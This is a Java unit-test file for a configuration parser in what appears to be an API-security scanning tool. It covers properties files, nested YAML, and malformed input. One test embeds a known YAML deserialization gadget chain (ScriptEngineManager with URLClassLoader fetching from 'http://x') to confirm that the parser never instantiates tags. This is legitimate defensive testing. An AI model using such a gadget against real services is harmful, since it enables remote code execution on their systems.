package dev.apisec.core.source;

import dev.apisec.core.model.ConfigProperty;
import org.junit.jupiter.api.Test;

import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class ConfigFilesTest {

    @Test
    void propertiesWithLinesContinuationsAndSeparators() {
        List<ConfigProperty> out = new ArrayList<>();
        ConfigFiles.readProperties("application.properties", """
                # comment
                server.port=8080
                management.endpoints.web.exposure.include = *
                spring.application.name: shop
                long.value=a,\\
                    b
                flag
                """, out);
        assertThat(out).containsExactly(
                new ConfigProperty("server.port", "8080", "application.properties", 2),
                new ConfigProperty("management.endpoints.web.exposure.include", "*", "application.properties", 3),
                new ConfigProperty("spring.application.name", "shop", "application.properties", 4),
                new ConfigProperty("long.value", "a,b", "application.properties", 5),
                new ConfigProperty("flag", "", "application.properties", 7));
    }

    @Test
    void yamlNestedKeysListsAndDocuments() {
        List<ConfigProperty> out = new ArrayList<>();
        ConfigFiles.readYaml("application.yml", """
                server:
                  port: 8443   # tls
                  ssl:
                    enabled: true
                management:
                  endpoints:
                    web:
                      exposure:
                        include: "health,info"
                spring:
                  profiles: [dev, prod]
                app:
                  origins:
                    - https://a.example.com
                    - https://b.example.com
                ---
                top: 1
                """, out);
        assertThat(out).extracting(p -> p.key() + "=" + p.value() + "@" + p.line()).containsExactly(
                "server.port=8443@2",
                "server.ssl.enabled=true@4",
                "management.endpoints.web.exposure.include=health,info@9",
                "spring.profiles[0]=dev@11",
                "spring.profiles[1]=prod@11",
                "app.origins[0]=https://a.example.com@14",
                "app.origins[1]=https://b.example.com@15",
                "top=1@17");
    }

    @Test
    void yamlTagsAreNeverInstantiatedAndBrokenYamlIsANotification(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
            throws java.io.IOException {
        java.nio.file.Path evil = dir.resolve("application.yml");
        java.nio.file.Files.writeString(evil, """
                gadget: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x"]]]]
                server:
                  error:
                    include-stacktrace: always
                """);
        java.nio.file.Path broken = dir.resolve("application-broken.yml");
        java.nio.file.Files.writeString(broken, "a: [unclosed\n  b: {\n");
        dev.apisec.core.diag.Notifications notes = new dev.apisec.core.diag.Notifications();
        List<ConfigProperty> props = ConfigFiles.read(List.of(
                new SourceFile(evil, "application.yml", 10), new SourceFile(broken, "application-broken.yml", 10)), notes);
        assertThat(props).extracting(p -> p.key() + "=" + p.value() + "@" + p.line())
                .contains("server.error.include-stacktrace=always@4", "gadget[0][0][0][0]=http://x@1");
        assertThat(notes.sorted()).extracting(dev.apisec.core.diag.Notification::file)
                .containsExactly("application-broken.yml");
    }
}
